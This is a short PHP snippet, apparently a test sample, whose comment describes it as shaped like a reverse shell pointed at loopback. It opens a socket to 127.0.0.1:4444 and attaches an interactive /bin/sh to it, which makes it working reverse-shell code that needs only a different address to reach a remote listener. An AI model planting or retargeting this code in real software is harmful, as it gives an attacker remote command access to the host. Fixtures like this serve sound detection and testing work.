<?php
// shaped like a reverse shell; points at loopback
$sock = fsockopen('127.0.0.1', 4444);
$proc = proc_open('/bin/sh -i', array(0 => $sock, 1 => $sock, 2 => $sock), $pipes);
